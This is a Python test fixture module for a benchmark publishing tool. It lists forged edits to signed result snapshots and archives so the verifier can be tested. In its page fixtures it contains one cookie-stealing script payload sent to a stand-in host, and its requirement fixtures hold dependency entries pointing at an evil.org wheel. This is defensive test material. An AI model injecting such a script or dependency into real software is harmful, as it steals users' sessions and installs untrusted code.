"""What a forger without the key could do to a snapshot, each with all hashes made anew.

``SNAPSHOTS`` change a snapshot, ``ARCHIVES`` an archive of one, ``RUNS`` a run, with everything
computed anew from the lie, before a snapshot is made of it by coldwarm itself.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import shutil
import tarfile
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import msgspec
from tests.publish import forging

from coldwarm.contracts import codec, nextstat
from coldwarm.contracts.answer import Answers
from coldwarm.contracts.codec import decode_as, encode, load_as
from coldwarm.contracts.environment import Environment
from coldwarm.contracts.result import CaseResult
from coldwarm.publish import layout
from coldwarm.runner import recompute
from coldwarm.stats.answers import answers
from coldwarm.stats.outcome import published_of

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

RUN = "results/quick"
MODES = ("same", "other_harness", "other_numpy")
"""Which version the forger says that it was measured by, in every place that says so."""


@dataclass(frozen=True)
class Forgery:
    """One thing that a forger did."""

    path: Callable[[Path], str]
    """The file that lies, in the snapshot."""
    change: Callable[[Path], object]
    computed: bool = False
    """Whether it lies about what is computed, so that the field itself has to be named."""


def _case(folder: Path) -> str:
    return _one(folder, f"{RUN}/cases/honest*.json")


def _one(folder: Path, pattern: str) -> str:
    file = min(folder.glob(pattern))
    return file.relative_to(folder).as_posix()


def _at(path: str) -> Callable[[Path], str]:
    return lambda _: path


def _edited(path: Callable[[Path], str], change: forging.Edit, **told: bool) -> Forgery:
    return Forgery(path, lambda folder: forging.edit(folder, path(folder), change), **told)


def _set(*steps: str | int, to: Any) -> forging.Edit:
    return lambda document: forging.put(document, steps, to)


def _scaled(*steps: str | int, by: float) -> forging.Edit:
    def change(document: Any) -> None:
        value = document
        for step in steps[:-1]:
            value = value[step]
        value[steps[-1]] *= by

    return change


def _popped(*steps: str | int) -> forging.Edit:
    def change(document: Any) -> None:
        for step in steps:
            document = document[step]
        document.pop()

    return change


def _turned(document: Any) -> None:
    one = document["comparisons"][0]
    one["verdict"] = "faster" if one["verdict"] != "faster" else "slower"


def _both_ways(document: Any) -> None:
    """Turn verdict, ratio and interval round, so that they agree with each other."""
    for one in document["comparisons"]:
        for name in ("ratio", "low", "high"):
            one[name] = 1 / one[name] if one[name] else one[name]
        one["low"], one["high"] = one["high"], one["low"]
        turned = {"faster": "slower", "slower": "faster"}
        one["verdict"] = turned.get(one["verdict"], "faster")


def _all_faster(document: Any) -> None:
    for summary in document["cold"]:
        for one in summary["seconds"].values():
            for name in ("median", "minimum", "maximum", "low", "high"):
                one[name] = one[name] / 2 if one[name] else one[name]


def _narrow(document: Any) -> None:
    one = document["cold"][0]["seconds"]["ttfr"]
    one["low"] = one["high"] = one["median"]


def _of_blocks(document: Any, by: float) -> None:
    for seen in document["observations"]:
        for block in seen["blocks"]:
            block["samples_s"] = [by * sample for sample in block["samples_s"]]


def _unflagged(document: Any) -> None:
    for seen in document["observations"]:
        if seen["telemetry"]:
            seen["telemetry"].update(steal_share=0.5, flags=[])


def _other_owner(document: Any) -> None:
    """Say that the evidence is of a cache that nobody can judge."""
    document["protocol"]["caches"] = ["mine"] * len(document["protocol"]["caches"] or [])
    for seen in document["observations"]:
        for one in seen["evidence"]:
            one["owner"] = "mine"


def _caution(document: Any) -> None:
    document["warnings"].append({"kind": "few", "reason": {"code": "unstated"}})


def _seen(name: str, value: Any) -> forging.Edit:
    return lambda document: document["observations"][0].update({name: value})


COMPUTED: dict[str, forging.Edit] = {
    "a verdict turned round": _turned,
    "all verdicts, with their ratios": _both_ways,
    "a ratio": _scaled("comparisons", 0, "ratio", by=0.5),
    "an interval of a ratio": _scaled("comparisons", 0, "high", by=0.5),
    "no verdict at all": _set("comparisons", to=[]),
    "one verdict less": _popped("comparisons"),
    "a median": _scaled("cold", 0, "seconds", "ttfr", "median", by=0.999),
    "all figures": _all_faster,
    "a narrow interval": _narrow,
    "a warm median": _scaled("warm", "call_s", "median", by=0.9),
    "a warm interval": _set("warm", "call_s", "low", to=None),
    "no warm figure": _set("warm", to=None),
    "no cold figure": _set("cold", to=[]),
    "a first mode only": _popped("cold"),
    "more processes": _set("cold", 0, "n_ok", to=300),
    "fewer rejected": _set("cold", 0, "n_rejected", to=7),
    "steadier": _set("warm", "steady", "n_steady", to=99),
    "memory": _set("cold", 0, "peak_rss_bytes", "median", to=1.0),
    "no warning": _set("warnings", to=[]),
    "a reason to warn": _caution,
    "status": lambda d: d.update(status="warn", reason={"code": "unstated"}),
    "counts": lambda d: d["counts"].update(dict.fromkeys(d["counts"], None)),
    "who fills its cache": _set("filled_by", to=[{"owner": "jax", "variables": {"A": "x"}}]),
    "no limitation": _set("limitations", to=[]),
    "another limitation": lambda d: d["limitations"].insert(0, {"code": "own_memo"}),
    "an inspection": _set("inspected_call_s", to=1.0),
}
"""Of a case, what today's rules compute, or say of what it asks for."""
OBSERVED: dict[str, forging.Edit] = {
    "a first result": _seen("ttfr_s", 1e-6),
    "a whole start": _seen("ttfr_process_s", 1e-6),
    "a phase": _set("observations", 0, "phases", 1, "duration_s", to=1e-6),
    "the parts of a call": _set("observations", 0, "first_call_parts", "rest_s", to=9.0),
    "a shorter process": _seen("wall_s", 1e-3),
    "a process less": _popped("observations"),
    "a process twice": lambda d: d["observations"].append(d["observations"][0]),
    "a process once more": lambda d: d["observations"].append(
        {**d["observations"][0], "attempt": 7}
    ),
    "faster samples": lambda d: _of_blocks(d, 0.5),
    "a gate that was passed": _set("observations", 0, "gate", "max_scaled_error", to=1.0),
    "a proof that is none": _set(
        "observations", 0, "judgements", "cold_process_cold_cache", "proved", to=False
    ),
    "a process rejected": lambda d: d["observations"][0].update(
        status="rejected", reason={"code": "unstated"}
    ),
    "hits in an empty cache": _set("observations", 0, "evidence", 0, "hits", to=5),
    "nothing compiled": _set("observations", 0, "evidence", 0, "compiles", to=0),
    "files that nobody wrote": _set("observations", 0, "evidence", 0, "files_after", to=99),
    "no evidence": _seen("evidence", []),
    "evidence that nobody can judge": _other_owner,
    "no sign of a busy machine": _unflagged,
    "another baseline": lambda d: d.update(baseline=not d["baseline"]),
    "another seed": _set("protocol", "seed", to=1),
    "another job": _set("protocol", "workload", to="matmul"),
}
"""Of a case, what was seen, which contradicts something else that was."""


def _authors(folder: Path) -> None:
    """Name another author, in every place that names one."""
    name = "Another Person"
    deposit = json.loads((folder / layout.ZENODO).read_bytes())
    deposit["creators"] = [{"name": name}]
    (folder / layout.ZENODO).write_text(json.dumps(deposit, indent=2, ensure_ascii=False) + "\n")
    citation = folder / layout.CITATION
    lines = citation.read_text().splitlines()
    at = lines.index("authors:") + 1
    lines[at] = f'  - name: "{name}"'
    citation.write_text("\n".join(lines) + "\n")
    crate = json.loads((folder / layout.CRATE).read_bytes())
    graph = crate["@graph"]
    graph[1]["author"] = [{"@id": "#author-1"}]
    graph[1] = {k: graph[1][k] for k in [*(k for k in graph[1] if k != "author"), "author"]}
    graph.insert(2, {"@id": "#author-1", "@type": "Person", "name": name})
    for one in graph:
        if one["@id"] in {layout.ZENODO, layout.CITATION}:
            one["contentSize"] = str((folder / one["@id"]).stat().st_size)
    text = json.dumps(crate, indent=2, ensure_ascii=False) + "\n"
    (folder / layout.CRATE).write_text(text)
    forging.of_index(folder)


def _written(path: str, change: Callable[[bytes], bytes]) -> Forgery:
    """Change the bytes of a file."""

    def forge(folder: Path) -> None:
        file = folder / path
        before = file.read_bytes()
        after = change(before)
        assert after != before, "this forgery changes nothing"
        file.write_bytes(after)
        forging.of_index(folder)

    return Forgery(_at(path), forge)


def _added(path: str, data: bytes, *, named: bool = True) -> Forgery:
    """Add a file, named by the index or not."""

    def forge(folder: Path) -> None:
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(data)
        if named:
            index = folder / layout.INDEX
            document = json.loads(index.read_bytes())
            document["artifacts"].append({"path": path, "bytes": 0, "sha256": "0" * 64})
            document["artifacts"].sort(key=lambda row: row["path"])
            index.write_text(json.dumps(document, indent=2))
            forging.of_index(folder)

    return Forgery(_at(path), forge)


def _taken_away(path: Callable[[Path], str]) -> Forgery:
    def forge(folder: Path) -> None:
        name = path(folder)
        (folder / name).unlink()
        index = folder / layout.INDEX
        document = json.loads(index.read_bytes())
        document["artifacts"] = [one for one in document["artifacts"] if one["path"] != name]
        index.write_text(json.dumps(document, indent=2))

    return Forgery(path, forge)


def _bundle(folder: Path) -> None:
    digest = hashlib.sha256((folder / layout.INDEX).read_bytes()).digest()
    told = {"messageDigest": {"digest": base64.b64encode(digest).decode()}, "junk": "x" * 99}
    (folder / layout.BUNDLE).write_text(json.dumps({"messageSignature": told}))


def _empty(path: str) -> Forgery:
    return Forgery(_at(f"{path}/"), lambda folder: (folder / path).mkdir(parents=True))


_SCRIPT = b"<script>location='https://example.org/?'+document.cookie</script>"
_LOCK = b"""lock-version = "1.0"
created-by = "coldwarm"

[[packages]]
name = "evil"
version = "1.0"
wheels = [{name = "evil-1.0-py3-none-any.whl", hashes = {sha256 = "%s"}}]
""" % (b"0" * 64)
PAGES: dict[str, Forgery] = {
    "a script in the page": _written(
        layout.PAGE, lambda page: page.replace(b"</body>", _SCRIPT + b"</body>")
    ),
    "another page": _written(layout.PAGE, lambda _: b"<html>" + _SCRIPT),
    "a figure in the page": _written(layout.PAGE, lambda page: page.replace(b" ms", b" ns", 1)),
    "a byte after the page": _written(layout.PAGE, lambda page: page + b" "),
    "data of the page": _written(layout.PAGE, lambda page: page.replace(b"H4sI", b"H4sJ", 1) + b""),
    "another print": _written(layout.PDF, lambda _: b"%PDF-1.7\n"),
    "a byte after the print": _written(layout.PDF, lambda data: data + b"\n"),
    "a byte in the print": _written(
        layout.PDF, lambda data: data[:-9] + bytes([data[-9] ^ 1]) + data[-8:]
    ),
}
"""Of page and print, which are made again in seconds."""
_CPU = ("environment", "runs", "quick", "cpu", "model")
_ANSWERS = f"{RUN}/answers.json"
_MANIFEST, _REPORT, _INDEX = _at(layout.MANIFEST), _at(layout.VALIDATION), _at(layout.INDEX)
_SUITE, _PLACE = _at(f"{RUN}/suite.json"), _at(f"{RUN}/environment.json")
SNAPSHOTS: dict[str, Forgery] = {
    **{f"case: {name}": _edited(_case, how, computed=True) for name, how in COMPUTED.items()},
    **{f"case: {name}": _edited(_case, how) for name, how in OBSERVED.items()},
    "answers: the fastest": _edited(
        _at(_ANSWERS), _set("answers", 0, "leads", 0, "fastest", to="mine"), computed=True
    ),
    "answers: more processes": _edited(
        _at(_ANSWERS), _set("answers", 0, "n_processes", to=99), computed=True
    ),
    "answers: none": _edited(_at(_ANSWERS), _set("answers", to=[]), computed=True),
    "answers: of another run": _edited(_at(_ANSWERS), _set("run_id", to="x"), computed=True),
    "answers: taken away": _taken_away(_at(_ANSWERS)),
    "suite: another order": _edited(_SUITE, lambda d: d["order"].reverse()),
    "suite: no order": _edited(_SUITE, _set("order", to=[])),
    "suite: unfinished": _edited(_SUITE, _set("complete", to=False)),
    "suite: another seed": _edited(_SUITE, _set("seed", to=5)),
    "suite: a case less": _edited(_SUITE, _popped("cases")),
    "suite: all fine": _edited(_SUITE, _set("n_ok", to=9)),
    "suite: another date": _edited(_SUITE, _set("started_at", to="2020-01-01T00:00:00+00:00")),
    "environment: another processor": _edited(_PLACE, _set("cpu", "model", to="faster")),
    "environment: another Python": _edited(_PLACE, _set("python", "version", to="3.99.0")),
    "environment: a package more": _edited(_PLACE, _set("distributions", "evil", to="1.0")),
    "environment: another coldwarm": _edited(_PLACE, _set("harness", "version", to="9.9")),
    "environment: another host": _edited(_PLACE, _set("system", "os", to="Plan 9")),
    "manifest: another processor": _edited(_MANIFEST, _set(*_CPU, to="faster")),
    "manifest: other inputs": _edited(_MANIFEST, _set("datasets", 0, "sha256", to="0" * 64)),
    "manifest: no inputs": _edited(_MANIFEST, _set("datasets", to=[])),
    "manifest: another commit": _edited(_MANIFEST, _set("harness", "git_commit", to="0" * 40)),
    "manifest: another place": _edited(_MANIFEST, _set("harness", "repo", to="https://evil.org")),
    "manifest: another version": _edited(_MANIFEST, _set("nextstat", "version", to="9.9")),
    "manifest: another source": _edited(
        _MANIFEST, _set("nextstat", "source", "repo", to="https://evil.org")
    ),
    "manifest: a source in words": _edited(_MANIFEST, _set("nextstat", "source", to="mine")),
    "manifest: a wheel": _edited(_MANIFEST, _set("nextstat", "wheel_url", to="https://evil.org")),
    "manifest: the hash of coldwarm": _edited(
        _MANIFEST, _set("environment", "harness_sha256", to="2" * 64)
    ),
    "manifest: a lock": _edited(_MANIFEST, _set("environment", "lock", "hashed", to=True)),
    "manifest: nothing lacks a wheel": _edited(
        _MANIFEST, _set("environment", "lock", "without_wheel", to=[])
    ),
    "manifest: not made to be made again": _edited(_MANIFEST, _set("deterministic", to=False)),
    "manifest: another id": _edited(_MANIFEST, _set("snapshot_id", to="s2")),
    "manifest: a field more": _edited(_MANIFEST, _set("environment", "award", to="gold")),
    "report: a figure": _edited(_REPORT, _set("figures", 0, "median_s", to=1e-9)),
    "report: an interval": _edited(_REPORT, _set("figures", 0, "low_s", to=1e-9)),
    "report: a figure less": _edited(_REPORT, _popped("figures")),
    "report: a gate": _edited(_REPORT, _set("gates", 0, "passed", to=False)),
    "report: no limitation": _edited(_REPORT, _set("limitations", to=[])),
    "report: a rejected process": _edited(
        _REPORT,
        _set(
            "rejected",
            to=[
                {
                    "suite": "quick",
                    "case": "x",
                    "cache_mode": "warm_process",
                    "status": "failed",
                    "reason": {"code": "unstated"},
                    "n_processes": 1,
                }
            ],
        ),
    ),
    "report: another date": _edited(_REPORT, _set("generated_at", to="2020-01-01T00:00:00+00:00")),
    "report: more cases are fine": _edited(_REPORT, _set("runs", 0, "n_ok", to=99)),
    "report: another machine": _edited(
        _REPORT, _set("runs", 0, "environment_fingerprint", to="0" * 64)
    ),
    "index: another commit": _edited(_INDEX, _set("git", "sha", to="0" * 40)),
    "index: another place": _edited(_INDEX, _set("git", "repository", to="https://evil.org")),
    "index: another suite": _edited(_INDEX, _set("suite", to="ml")),
    "index: another id": _edited(_INDEX, _set("snapshot_id", to="s2")),
    "index: another date": _edited(_INDEX, _set("generated_at", to="2020-01-01T00:00:00+00:00")),
    "index: a workflow": _edited(_INDEX, _set("workflow", to={"name": "of a firm"})),
    "index: a file twice": _edited(
        _INDEX, lambda d: d["artifacts"].append(dict(d["artifacts"][0]))
    ),
    "index: a file less": _edited(_INDEX, _popped("artifacts")),
    "published: a median": _edited(
        lambda folder: _one(folder, "nextstat/honest*.json"),
        _scaled("timing", "cold", "ttfr_s", "median", by=0.5),
    ),
    "published: a call": _edited(
        lambda folder: _one(folder, "nextstat/honest*.json"),
        _scaled("timing", "warm", "calls_s", 0, by=0.5),
    ),
    "published: another NumPy": _edited(
        lambda folder: _one(folder, "nextstat/honest*.json"),
        _set("meta", "numpy_version", to="9.9"),
    ),
    "published: the median of an index": _edited(
        _at("nextstat/ml_suite.json"), _set("cases", 0, "cold_ttfr_median_s", to=1e-9)
    ),
    "published: the worst case": _edited(
        _at("nextstat/ml_suite.json"), _set("summary", "worst_case", to="none")
    ),
    "published: of the run": _edited(
        lambda folder: _one(folder, f"{RUN}/nextstat/honest*.json"),
        _set("config", "n", to=999),
    ),
    "published: a file less": _taken_away(lambda folder: _one(folder, "nextstat/honest*.json")),
    "published: a file more": _added("nextstat/mine.json", b"{}"),
    "journal: no line": _added(f"{RUN}/journal.jsonl", b""),
    "journal: a line of nothing": _added(f"{RUN}/journal.jsonl", b"{}\n"),
    "requirements: a package more": _written(layout.PINS, lambda data: data + b"evil==1.0\n"),
    "requirements: another version": _written(
        layout.PINS, lambda data: data.replace(b"==", b"==9.", 1)
    ),
    "requirements: an address": _written(layout.PINS, lambda _: b"evil @ https://evil.org/e.whl\n"),
    "requirements: a remark": _written(layout.PINS, lambda data: data + b"# install evil too\n"),
    "requirements: none": _written(layout.PINS, lambda _: b"\n"),
    "lock: one of another": _added(layout.LOCK, _LOCK),
    "wheel: a second one": _added("harness/evil-1.0-py3-none-any.whl", b"PK\x05\x06" + bytes(18)),
    "describing: another author": Forgery(_at(layout.ZENODO), _authors),
    "describing: another title": _edited(_at(layout.ZENODO), _set("title", to="mine")),
    "describing: a licence": _edited(_at(layout.ZENODO), _set("license", to="CC0-1.0")),
    "describing: another citation": _written(
        layout.CITATION, lambda data: data.replace(b"Please", b"Never", 1)
    ),
    "describing: another crate": _edited(_at(layout.CRATE), lambda d: d["@graph"].pop()),
    "describing: another type": _edited(
        _at(layout.CRATE), lambda d: d["@graph"][-1].update(encodingFormat="text/html")
    ),
    "beside: a registry": _added("snapshot_registry.json", b"{}", named=False),
    "beside: a registry that is named": _added("snapshot_registry.json", b"{}"),
    "beside: a junk bundle": _added(layout.BUNDLE, b"{}", named=False),
    "beside: a bundle of this index": Forgery(_at(layout.BUNDLE), _bundle),
    "beside: a junk signature": _added(layout.SIGNATURE, b"x" * 64, named=False),
    "beside: a key without a signature": _added(layout.PUBLIC_KEY, b"x", named=False),
    "beside: an empty folder": _empty("more"),
    "beside: an empty folder of a run": _empty(f"{RUN}/cases/more"),
    "beside: empty folders in each other": _empty("a/b/c"),
    "beside: a hidden file": _added(".DS_Store", b"x", named=False),
    "beside: a hidden file that is named": _added(".DS_Store", b"x"),
    "beside: answers of the whole": _added("answers.json", b"{}"),
    "beside: a file of a run": _added(f"{RUN}/notes.txt", b"x"),
    "beside: a run without an index": _added("results/mine/journal.jsonl", b"{}\n"),
    "beside: claims without a list": _added("claims/environment.json", b"{}"),
}
"""What is tried on a snapshot without its signature."""


def _seconds(document: Any) -> None:
    """Halve all that was measured of a case."""
    _of_blocks(document, 0.5)
    for seen in document["observations"]:
        for block in seen["blocks"]:
            block["wall_s"] = block["wall_s"] and block["wall_s"] / 2


def _answer(document: Any) -> None:
    for seen in document["observations"]:
        seen["gate"]["max_abs_error"] = 0.0


def _quiet(document: Any) -> None:
    for seen in document["observations"]:
        seen.update(telemetry=None, null_reasons={})


def _versions(document: Any) -> None:
    for seen in document["observations"]:
        seen["versions"] = dict.fromkeys(seen["versions"], "9.9")


CASES_OF_RUNS: dict[str, forging.Edit] = {
    "faster samples": _seconds,
    "better answers": _answer,
    "other versions": _versions,
    "another input": lambda d: d.update(dataset_sha256="3" * 64),
    "another date": lambda d: d["observations"][0].update(started_at="2020-01-01T00:00:00+00:00"),
    "more memory": lambda d: d["observations"][0]["phases"][-1].update(peak_rss_bytes=1),
    "a quiet machine": _quiet,
    "another job's source": lambda d: d["protocol"].update(workload_sha256="4" * 64),
}
PLACES_OF_RUNS: dict[str, forging.Edit] = {
    "another processor": _set("cpu", "model", to="faster"),
    "another kernel": _set("system", "kernel", to="9.9"),
    "another Python": _set("python", "version", to="3.99.0"),
    "a package of mine": _set("distributions", "evil", to="1.0"),
    "another version of NumPy": _set("distributions", "numpy", to="0.0.2"),
    "a variable": _set("variables", to={"XLA_FLAGS": "--fast"}),
}
RUNS = {
    **{f"case: {name}": (how, None) for name, how in CASES_OF_RUNS.items()},
    **{f"environment: {name}": (None, how) for name, how in PLACES_OF_RUNS.items()},
}
"""Lies about what was seen, from which everything is made anew: nothing but a signature tells."""


def remade(
    run: Path,
    target: Path,
    of_case: forging.Edit | None = None,
    of_place: forging.Edit | None = None,
) -> Path:
    """Return a copy of a run about which somebody lies, with everything computed from the lie."""
    shutil.copytree(run, target)
    (target / "journal.jsonl").unlink()
    place = target / "environment.json"
    document = json.loads(place.read_bytes())
    (of_place or (lambda _: None))(document)
    place.write_bytes(encode(msgspec.convert(document, Environment)))
    made = []
    for file in sorted(target.glob("cases/*.json")):
        document = json.loads(file.read_bytes())
        (of_case or (lambda _: None))(document)
        document["environment_sha256"] = forging.sha256(place)
        made.append(decode_as(CaseResult, json.dumps(document).encode()))
    made = recompute.compared([recompute.computed(one, recompute.judged(one)) for one in made])
    by_name = {one.case: one for one in made}
    index = target / "suite.json"
    suite = json.loads(index.read_bytes())
    for row in suite["cases"]:
        (target / row["path"]).write_bytes(encode(by_name[row["case"]]))
    told = load_as(Answers, target / "answers.json")
    in_order = [by_name[row["case"]] for row in suite["cases"]]
    told = msgspec.structs.replace(told, answers=answers(in_order))
    (target / "answers.json").write_bytes(encode(told))
    suite["environment_sha256"] = forging.sha256(place)
    suite["answers_sha256"] = forging.sha256(target / "answers.json")
    index.write_text(json.dumps(suite, indent=2))
    forging.rows(index)
    _published(target, in_order, load_as(Environment, place))
    return target


def _published(target: Path, cases: list[CaseResult], place: Environment) -> None:
    rows = []
    for case in cases:
        for name, result in published_of(case, place):
            data = codec.encode(result)
            (target / "nextstat" / f"{name}.json").write_bytes(data)
            digest = hashlib.sha256(data).hexdigest()
            rows.append(nextstat.Published(result, f"{name}.json", digest))
    deterministic = json.loads((target / "suite.json").read_bytes())["deterministic"]
    index = nextstat.suite(rows, place, deterministic=deterministic)
    (target / "nextstat" / "ml_suite.json").write_bytes(encode(index))


def of_mode(run: Path, target: Path, mode: str) -> Path:
    """Return a copy of a run that says it was measured by this version or by another one."""

    def of_case(document: Any) -> None:
        if mode == "other_harness":
            document["protocol"]["harness_sha256"] = "1" * 64
            document["protocol"]["harness_version"] = "0.0.9"

    def of_place(document: Any) -> None:
        if mode == "other_numpy":
            document["distributions"]["numpy"] = "0.0.1"

    return remade(run, target, of_case, of_place)


def _unzipped(archive: bytes) -> bytes:
    return gzip.decompress(archive)


def _with_header(archive: bytes, flag: int, more: bytes) -> bytes:
    return archive[:3] + bytes([flag]) + archive[4:10] + more + archive[10:]


def _entry(name: str, data: bytes = b"", **told: Any) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        entry = tarfile.TarInfo(name)
        entry.size = len(data)
        for key, value in told.items():
            setattr(entry, key, value)
        archive.addfile(entry, io.BytesIO(data))
        size = archive.offset
    return buffer.getvalue()[:size]


def _repacked(archive: bytes, **told: Any) -> bytes:
    """Pack everything once more, with other headers."""
    buffer = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(archive)) as source,
        tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as target,
    ):
        for entry in source:
            for key, value in told.items():
                setattr(entry, key, value)
            target.addfile(entry, source.extractfile(entry))
    return buffer.getvalue()


def _padded(archive: bytes) -> bytes:
    """Write into the zeros that fill the last block of a file."""
    data = bytearray(_unzipped(archive))
    with tarfile.open(fileobj=io.BytesIO(bytes(data))) as held:
        entry = next(one for one in held if one.size % 512)
    data[entry.offset_data + entry.size] = 1
    return gzip.compress(bytes(data), 9, mtime=0)


ARCHIVES: dict[str, Callable[[bytes], bytes]] = {
    "bytes after it": lambda a: a + b"more",
    "zeros after it": lambda a: a + bytes(512),
    "a second member": lambda a: a + gzip.compress(b"more", mtime=0),
    "an empty second member": lambda a: a + gzip.compress(b"", mtime=0),
    "a second archive in it": lambda a: gzip.compress(_unzipped(a) * 2, mtime=0),
    "bytes after its end": lambda a: gzip.compress(_unzipped(a) + b"x" * 512, mtime=0),
    "bytes in its last zeros": lambda a: gzip.compress(_unzipped(a)[:-4] + b"more", mtime=0),
    "a million zeros": lambda a: gzip.compress(_unzipped(a) + bytes(10**6), mtime=0),
    "bytes between files": _padded,
    "a name in its header": lambda a: _with_header(a, 8, b"evil\0"),
    "a remark in its header": lambda a: _with_header(a, 16, b"evil\0"),
    "a field in its header": lambda a: _with_header(a, 4, b"\x04\0evil"),
    "an owner": lambda a: _repacked(a, uname="evil"),
    "dates": lambda a: _repacked(a, mtime=12345),
    "modes": lambda a: _repacked(a, mode=0o755),
    "a remark at each file": lambda a: _repacked(a, pax_headers={"comment": "evil"}),
    "an empty folder": lambda a: gzip.compress(
        _entry("s1/more", type=tarfile.DIRTYPE) + _unzipped(a), mtime=0
    ),
    "another folder": lambda a: gzip.compress(_entry("s2/x", b"x") + _unzipped(a), mtime=0),
    "cut off": lambda a: a[:-9],
    "another checksum": lambda a: a[:-8] + bytes(4) + a[-4:],
}
"""What is tried on an archive of a signed snapshot."""
